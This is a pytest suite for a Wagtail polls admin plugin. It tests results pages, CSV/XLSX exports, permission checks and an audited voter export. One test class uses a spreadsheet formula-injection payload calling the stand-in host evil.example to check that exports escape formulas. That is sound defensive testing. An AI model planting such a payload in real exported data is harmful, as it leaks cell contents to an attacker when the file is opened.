"""Polls in the Wagtail admin: the results page, results exports, the audited export of who voted what."""

from __future__ import annotations

import codecs
import io

import pytest
from django.test.utils import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from tests.polls_admin import LIST, NAMESPACE, body, cast, make_poll, poll_permissions, url
from tests.utils import make_user

pytestmark = pytest.mark.django_db


class TestResults:
    def test_counts_percentages_and_turnout(self, client_for, poll_editor):
        poll = make_poll()
        cast(poll, [0], [0], [1])
        response = client_for(poll_editor).get(url("results", poll))
        assert response.status_code == 200
        html = " ".join(response.content.decode().split())
        assert "3 voters" in html
        assert '<th scope="row">Canteen</th> <td class="social-poll-results__number">2</td>' in html
        assert "66.7%" in html and "33.3%" in html and "0.0%" in html
        assert 'style="width: 66.7%"' in html

    @override_settings(WAGTAIL_SOCIAL_POLLS_SECRET_MIN_VOTERS=5)
    def test_secret_poll_below_k_shows_no_figure(self, client_for, poll_editor):
        poll = make_poll(secret=True)
        cast(poll, [0], [0], [1], [2])
        client = client_for(poll_editor)
        html = client.get(url("results", poll)).content.decode()
        assert "Results appear once 5 people have voted." in html
        assert "social-poll-results__number" not in html and "4 voters" not in html
        assert client.get(url("results", poll), {"export": "csv"}).status_code == 403
        cast(poll, [2])
        html = client.get(url("results", poll)).content.decode()
        assert "Results appear once" not in html and "5 voters" in html and "40.0%" in html

    def test_csv_export(self, client_for, poll_editor):
        poll = make_poll()
        cast(poll, [0], [0], [1])
        response = client_for(poll_editor).get(url("results", poll), {"export": "csv"})
        assert response.status_code == 200
        lines = body(response).decode("utf-8-sig").splitlines()
        assert lines == [
            "Choice;Votes;Percent of voters",
            "Canteen;2;66.7",
            "Pizzeria;1;33.3",
            "Picnic;0;0.0",
            "Voters (total);3;",
        ]

    def test_xlsx_export(self, client_for, poll_editor):
        poll = make_poll()
        cast(poll, [0], [1], [1], [1])
        response = client_for(poll_editor).get(url("results", poll), {"export": "xlsx"})
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(body(response))).active
        assert list(sheet.iter_rows(values_only=True)) == [
            ("Choice", "Votes", "Percent of voters"),
            ("Canteen", 1, 25.0),
            ("Pizzeria", 3, 75.0),
            ("Picnic", 0, 0.0),
            ("Voters (total)", 4, None),
        ]

    def test_view_permission_is_enough_for_results(self, client_for, editors):
        editors.permissions.add(*poll_permissions("view_poll"))
        viewer = make_user("vera", editors)
        poll = make_poll()
        client = client_for(viewer)
        assert client.get(url("results", poll)).status_code == 200
        assert client.get(url("edit", poll)).status_code == 302  # Wagtail's "no permission" redirect

    def test_editor_without_poll_permission_is_refused(self, client_for, editor):
        poll = make_poll()
        client = client_for(editor)
        response = client.get(url("results", poll))
        assert response.status_code == 302 and b"Canteen" not in response.content
        # Refused before the poll is looked up: an unknown id answers the same.
        missing = reverse(f"{NAMESPACE}:results", args=[poll.pk + 1])
        assert client.get(missing).status_code == 302

    def test_employee_without_admin_access_is_refused(self, client_for, employee):
        poll = make_poll()
        cast(poll, [0])
        client = client_for(employee)
        for address in (LIST, url("results", poll), url("voters", poll) + "?export=csv"):
            response = client.get(address)
            assert response.status_code == 302 and "/login/" in response["Location"], address


class TestVotersExport:
    @pytest.fixture
    def poll(self):
        poll = make_poll(multiple=True, max_choices=2)
        cast(poll, [0, 2], [1])
        return poll

    def test_needs_the_named_permission(self, client_for, poll_editor, poll):
        client = client_for(poll_editor)
        assert client.get(url("voters", poll), {"export": "csv"}).status_code == 403
        assert url("voters", poll) not in client.get(url("results", poll)).content.decode()
        assert not ModelLogEntry.objects.filter(action="wagtail_social_polls.export_voters").exists()

    def test_csv_with_names_and_choices_and_audit_entry(self, client_for, exporter, poll):
        client = client_for(exporter)
        assert url("voters", poll) in client.get(url("results", poll)).content.decode()
        response = client.get(url("voters", poll), {"export": "csv"})
        assert response.status_code == 200
        assert body(response).decode("utf-8-sig").splitlines() == [
            "Name;Username;Choices",
            'Voter0 Dupont;voter0;"Canteen; Picnic"',
            "Voter1 Dupont;voter1;Pizzeria",
        ]
        entry = ModelLogEntry.objects.get(action="wagtail_social_polls.export_voters")
        assert entry.object_id == str(poll.pk) and entry.user == exporter
        assert entry.data == {"format": "csv", "voters": 2}

    def test_xlsx(self, client_for, exporter, poll):
        response = client_for(exporter).get(url("voters", poll), {"export": "xlsx"})
        rows = list(load_workbook(io.BytesIO(body(response))).active.iter_rows(values_only=True))
        assert rows[1:] == [
            ("Voter0 Dupont", "voter0", "Canteen; Picnic"),
            ("Voter1 Dupont", "voter1", "Pizzeria"),
        ]

    def test_secret_poll_has_no_such_export(self, client_for, exporter):
        poll = make_poll(secret=True)
        cast(poll, *[[0]] * 6)
        client = client_for(exporter)
        assert client.get(url("voters", poll), {"export": "csv"}).status_code == 404
        assert url("voters", poll) not in client.get(url("results", poll)).content.decode()
        assert not ModelLogEntry.objects.filter(action="wagtail_social_polls.export_voters").exists()

    def test_without_format_is_not_found(self, client_for, exporter, poll):
        assert client_for(exporter).get(url("voters", poll)).status_code == 404

    def test_log_action_is_registered(self, client_for, exporter, poll):
        client = client_for(exporter)
        client.get(url("voters", poll), {"export": "xlsx"})
        history = client.get(url("history", poll)).content.decode()
        assert "Export of who voted what" in history


class TestExportsNeutraliseFormulas:
    """Choices and names that a spreadsheet would run as formulas are written with a quote in
    front, in CSV and XLSX; counts and percentages stay numbers."""

    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    @pytest.fixture
    def poll(self):
        poll = make_poll(choices=(self.FORMULA, "+33 1 23", "Canteen"))
        cast(poll, [0], [1], [2], [2])
        return poll

    def test_results_csv(self, client_for, poll_editor, poll):
        data = body(client_for(poll_editor).get(url("results", poll), {"export": "csv"}))
        assert data.startswith(codecs.BOM_UTF8)
        assert data.decode("utf-8-sig").splitlines() == [
            "Choice;Votes;Percent of voters",
            '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";1;25.0',
            "'+33 1 23;1;25.0",
            "Canteen;2;50.0",
            "Voters (total);4;",
        ]

    def test_results_xlsx(self, client_for, poll_editor, poll):
        data = body(client_for(poll_editor).get(url("results", poll), {"export": "xlsx"}))
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
        assert rows[1:] == [
            ("'" + self.FORMULA, 1, 25.0),
            ("'+33 1 23", 1, 25.0),
            ("Canteen", 2, 50.0),
            ("Voters (total)", 4, None),
        ]

    def test_voters_csv_and_xlsx(self, client_for, exporter, poll):
        # An admin user can set their own name to a formula.
        voter = poll.voters.get(user__username="voter0").user
        voter.first_name, voter.last_name = "@SUM(1,1)", "-x"
        voter.save()
        client = client_for(exporter)
        text = body(client.get(url("voters", poll), {"export": "csv"})).decode("utf-8-sig")
        assert (
            '\'@SUM(1,1) -x;voter0;"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
            in text.splitlines()
        )
        data = body(client.get(url("voters", poll), {"export": "xlsx"}))
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
        assert ("'@SUM(1,1) -x", "voter0", "'" + self.FORMULA) in rows
